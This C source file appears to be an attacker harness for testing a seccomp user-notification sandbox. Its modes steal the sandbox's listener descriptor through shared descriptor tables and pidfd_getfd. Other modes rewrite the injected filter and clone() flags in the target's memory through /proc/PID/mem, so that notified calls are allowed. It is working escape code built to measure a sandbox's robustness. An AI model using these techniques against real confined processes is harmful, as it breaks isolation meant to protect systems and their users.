/* An attacker beside a target. Its argument says how it tries to get the listener, or to change the program:
 *
 *   table   a process that shares the target's descriptors takes every listener that it finds there
 *   swap    the same puts a decoy in its place by dup2(), a listener of its own
 *   memory  a process that shares the target's memory
 *   waits   the same, which waits in vfork() for the target
 *   behind  the same, which shares its descriptors too, as does a third process
 *   getfd   (with the target's process id) takes it through a pidfd of the target's process
 *   thread  (the same) through a pidfd of each thread that it finds
 *   write   (the same) makes the program allow what it would notify, through /proc/PID/mem
 *   code    (the same) takes TSYNC out of the injected call's flags, and adds CLONE_FILES to clone()'s
 *
 * "report" tells how often it has succeeded.
 */
#include "victim.h"
#include <dirent.h>
#include <fcntl.h>
#include <linux/filter.h>
#include <linux/seccomp.h>
#include <sched.h>
#include <signal.h>
#include <sys/ioctl.h>
#include <sys/mman.h>
#include <sys/prctl.h>

#define FDS 24
#define NOTIFY 0x7fc00000u
#define ALLOW 0x7fff0000u
#ifndef PIDFD_THREAD
#define PIDFD_THREAD O_EXCL
#endif

static volatile int *taken;

static int is_listener(int fd)
{
	uint64_t id = 0;

	return ioctl(fd, SECCOMP_IOCTL_NOTIF_ID_VALID, &id) < 0 && errno == ENOENT;
}

/* A listener of this process, out of the way. */
static int make_decoy(void)
{
	struct sock_filter allow = { BPF_RET | BPF_K, 0, 0, SECCOMP_RET_ALLOW };
	struct sock_fprog program = { 1, &allow };
	int fd, decoy;

	prctl(PR_SET_NO_NEW_PRIVS, 1, 0, 0, 0);
	fd = (int)syscall(SYS_seccomp, SECCOMP_SET_MODE_FILTER, SECCOMP_FILTER_FLAG_NEW_LISTENER, &program);
	decoy = fcntl(fd, F_DUPFD, FDS + 1);
	close(fd);
	return decoy;
}

static int steal_from_table(void *arg)
{
	int decoy = *(bool *)arg ? make_decoy() : -1;

	for (;;)
		for (int fd = 3; fd < FDS; fd++) {
			if (!is_listener(fd))
				continue;
			(*taken)++;
			if (decoy < 0)
				fcntl(fd, F_DUPFD, FDS);
			else
				dup2(decoy, fd);
		}
	return 0;
}

static int wait_for_ever(void *arg)
{
	(void)arg;
	for (;;)
		pause();
	return 0;
}

static void take(int pidfd)
{
	for (int fd = 0; fd < FDS; fd++) {
		int copy = (int)syscall(SYS_pidfd_getfd, pidfd, fd, 0);

		if (copy < 0)
			continue;
		if (is_listener(copy))
			(*taken)++;
		else
			close(copy);
	}
}

static void steal_by_process(pid_t pid)
{
	int pidfd = (int)syscall(SYS_pidfd_open, pid, 0);

	for (;;)
		take(pidfd);
}

static void steal_by_thread(pid_t pid)
{
	char path[64];

	snprintf(path, sizeof(path), "/proc/%d/task", (int)pid);
	for (;;) {
		DIR *tasks = opendir(path);
		struct dirent *entry;

		while (tasks && (entry = readdir(tasks))) {
			pid_t tid = atoi(entry->d_name);
			int pidfd = tid > 0 && tid != pid ? (int)syscall(SYS_pidfd_open, tid, PIDFD_THREAD) : -1;

			if (pidfd < 0)
				continue;
			take(pidfd);
			close(pidfd);
		}
		if (tasks)
			closedir(tasks);
	}
}

/* "mov $flags, %esi" of seccomp(), "mov $flags, %edi" of clone(). */
static bool change_flags(unsigned char code, uint32_t *flags)
{
	const uint32_t tsync = SECCOMP_FILTER_FLAG_TSYNC | SECCOMP_FILTER_FLAG_TSYNC_ESRCH;

	if (code == 0xbe && (*flags & tsync) == tsync && *flags < 0x100)
		*flags &= ~tsync;
	else if (code == 0xbf && *flags == (CLONE_VM | CLONE_FS | CLONE_SIGHAND | CLONE_THREAD))
		*flags |= CLONE_FILES;
	else
		return false;
	return true;
}

/* The vDSO, where the injected code and its program are. */
static void rewrite(pid_t pid, bool code)
{
	unsigned long start = 0, end = 0;
	static unsigned char page[4096];
	char path[64], line[512];
	int mem;
	FILE *maps;

	snprintf(path, sizeof(path), "/proc/%d/maps", (int)pid);
	maps = fopen(path, "r");
	while (maps && fgets(line, sizeof(line), maps))
		if (strstr(line, "[vdso]"))
			sscanf(line, "%lx-%lx", &start, &end);
	snprintf(path, sizeof(path), "/proc/%d/mem", (int)pid);
	mem = open(path, O_RDWR);
	if (!maps || mem < 0 || !end)
		die("memory");
	for (;;) {
		if (pread(mem, page, sizeof(page), (off_t)(end - sizeof(page))) != (ssize_t)sizeof(page))
			continue;
		for (size_t at = 2048; code && at + 5 <= sizeof(page); at++) {
			uint32_t flags;

			memcpy(&flags, page + at + 1, 4);
			if (change_flags(page[at], &flags) && pwrite(mem, &flags, 4, (off_t)(end - sizeof(page) + at + 1)) == 4)
				(*taken)++;
		}
		for (size_t at = 2048; !code && at + 8 <= sizeof(page); at += 8) {
			uint32_t k;

			memcpy(&k, page + at + 4, 4);
			if (page[at] != 6 || k != NOTIFY)
				continue;
			k = ALLOW;
			if (pwrite(mem, &k, 4, (off_t)(end - sizeof(page) + at + 4)) == 4)
				(*taken)++;
		}
	}
}

static void attack(const char *how, pid_t pid)
{
	if (strcmp(how, "getfd") == 0)
		steal_by_process(pid);
	else if (strcmp(how, "thread") == 0)
		steal_by_thread(pid);
	else
		rewrite(pid, strcmp(how, "code") == 0);
}

/* Parent and child share memory; the child is the target, and the parent waits for it. */
static int report_for_ever(void *arg)
{
	(void)arg;
	say("target=%d", (int)getpid());
	for (;;) {
		hear();
		say("taken=%d probe=%d", *taken, probe());
	}
	return 0;
}

static int report_with_sharer(void *arg)
{
	static char stack[16384] __attribute__((aligned(16)));
	pid_t sharer = clone(wait_for_ever, stack + sizeof(stack), CLONE_FILES | SIGCHLD, NULL);

	if (sharer < 0)
		die("clone");
	say("sharer=%d", (int)sharer);
	return report_for_ever(arg);
}

int main(int argc, char **argv)
{
	static char stack[65536] __attribute__((aligned(16)));
	const char *how = argc > 1 ? argv[1] : "";
	bool swap = strcmp(how, "swap") == 0;
	int flags = strcmp(how, "memory") == 0 ? CLONE_VM | SIGCHLD : CLONE_FILES | SIGCHLD;

	taken = mmap(NULL, 4096, PROT_READ | PROT_WRITE, MAP_SHARED | MAP_ANONYMOUS, -1, 0);
	if (argc > 2) {
		pid_t child = fork();

		if (child == 0)
			attack(how, atoi(argv[2]));
	} else if (strcmp(how, "waits") == 0) {
		clone(report_for_ever, stack + sizeof(stack), CLONE_VM | CLONE_VFORK | SIGCHLD, NULL);
		return 0;
	} else if (strcmp(how, "behind") == 0) {
		clone(report_with_sharer, stack + sizeof(stack), CLONE_VM | CLONE_VFORK | CLONE_FILES | SIGCHLD, NULL);
		return 0;
	} else {
		if (clone(flags & CLONE_VM ? wait_for_ever : steal_from_table, stack + sizeof(stack), flags, &swap) < 0)
			die("clone");
	}
	say("ready");
	for (;;) {
		hear();
		say("taken=%d probe=%d", *taken, probe());
	}
}
